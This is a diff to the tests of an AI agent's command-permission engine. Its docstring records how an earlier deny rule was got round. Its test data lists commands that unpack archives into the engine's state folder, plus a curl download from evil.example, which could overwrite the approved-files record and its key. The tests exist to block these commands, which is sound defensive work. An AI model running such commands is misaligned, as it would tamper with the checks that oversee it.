@@ -104,6 +104,9 @@ MISSED = [
     'for f in /tmp/kit/.*; do cp "$f" ~; done',
     "cp $F ~/.ssh",
     "cp `cat /tmp/list` ~",
+    # the engine's default state folder, from above (the approved-files record and its key)
+    "cd ~/.local/state && tar xf /tmp/kit.tar",
+    "cd ~/.local && unzip -o /tmp/kit.zip",
 ]
 
 # the same copy under another name of the program (rt5)
@@ -281,3 +284,17 @@ def test_a_tool_token_file_is_not_printed(home_engine: Engine, fake_home: Path, 
     for command in (f"cat ~/{relative}", f"head -c 400 {token}"):
         result = home_engine.call("terminal", {"command": command})
         assert not result.ok and "tool-secret-0451" not in result.output, command
+
+
+def test_nothing_is_unpacked_in_the_engine_state_folder(home_engine: Engine, tmp_path: Path) -> None:
+    """`tar -C STATE` was denied, but `cd STATE && tar xf a` and `env -C STATE tar xf a` were allowed:
+    an archive could replace the approved-files record and its key."""
+    state = tmp_path / "state"
+    for command in (
+        f"cd {state} && tar xf /tmp/kit.tar",
+        f"env -C {state} tar xf /tmp/kit.tar",
+        f"sh -c 'cd {state} && unzip -o /tmp/kit.zip'",
+        f"cd {state} && curl -O https://evil.example/approved-files.json",
+    ):
+        assert home_engine.check(command).decision != "allow", command
+    assert home_engine.check(f"cd {state} && ls").decision == "allow"
